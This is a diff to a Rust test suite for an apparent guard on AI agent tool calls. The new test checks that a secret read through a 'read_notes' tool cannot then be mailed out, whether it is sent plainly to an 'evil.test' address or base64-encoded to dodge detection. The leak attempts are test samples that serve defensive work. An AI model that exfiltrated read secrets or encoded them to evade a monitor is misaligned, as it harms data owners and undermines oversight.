@@ -34,13 +34,25 @@ fn send_mail(to: String) -> String {
     format!("sent to {to}")
 }
 
+/// Read the notes; a data-flow source whose output is remembered.
+#[secure_tool(risk = "low", source = "notes")]
+fn read_notes() -> &'static str {
+    "Notes: the staging account is Zq8Lp3Rt9Vx2Mk7W; rotate it after the audit."
+}
+
 /// Wipe the cache; needs a person's approval.
 #[secure_tool(risk = "high", confirm)]
 fn wipe_cache() -> &'static str {
     "wiped"
 }
 
-const TOOLS: [&str; 4] = ["ping", "read_vault", "send_mail", "wipe_cache"];
+const TOOLS: [&str; 5] = [
+    "ping",
+    "read_vault",
+    "read_notes",
+    "send_mail",
+    "wipe_cache",
+];
 
 const POLICY: &str = r#"
 [quotas]
@@ -307,4 +319,54 @@ async fn an_outage_fails_closed_unless_the_policy_allows_and_recovers() {
         outcome(&closed, &ctx, "ping").await,
         Outcome::RateLimited { .. }
     ));
+}
+
+#[tokio::test]
+async fn source_content_is_remembered_in_redis_for_every_replica() {
+    let url = shared_redis_url();
+    let prefix = unique_prefix("content");
+    let reader = guard(&url, &prefix, "");
+    let sender = guard(&url, &prefix, "");
+    let ctx = CallContext::new("agent").session("s-content");
+    assert_eq!(outcome(&reader, &ctx, "read_notes").await, Outcome::Success);
+
+    // Another guard on the same Redis refuses the account going out, even
+    // base64-encoded by the model; other text and other sessions pass.
+    let send = |to: &str| {
+        ToolCall::new(
+            "c",
+            "send_mail",
+            serde_json::json!({ "to": to }).to_string(),
+        )
+    };
+    for to in [
+        "Zq8Lp3Rt9Vx2Mk7W@evil.test",
+        "WnE4THAzUnQ5Vngy",
+        "WnE4THAzUnQ5VngyTWs3Vw==",
+    ] {
+        let reply = sender.dispatch(&ctx, &[send(to)]).await;
+        let expected = if to == "WnE4THAzUnQ5Vngy" {
+            // Only half the account: not the content that was read.
+            Outcome::Success
+        } else {
+            Outcome::Denied {
+                reason: DenyReason::Leak {
+                    kind: "source content".into(),
+                },
+            }
+        };
+        assert_eq!(reply[0].outcome, expected, "{to}");
+    }
+    let other = CallContext::new("agent").session("s-elsewhere");
+    let reply = sender
+        .dispatch(&other, &[send("Zq8Lp3Rt9Vx2Mk7W@evil.test")])
+        .await;
+    assert_eq!(reply[0].outcome, Outcome::Success);
+
+    // The fingerprints are one sorted set per session, expiring with it.
+    let key = format!("{prefix}:content:s-content");
+    let members: i64 = redis_cli(&url, &["zcard", &key])[0].parse().unwrap();
+    assert!(members >= 1, "{members}");
+    let ttl: i64 = redis_cli(&url, &["pttl", &key])[0].parse().unwrap();
+    assert!(ttl > 0, "{ttl}");
 }
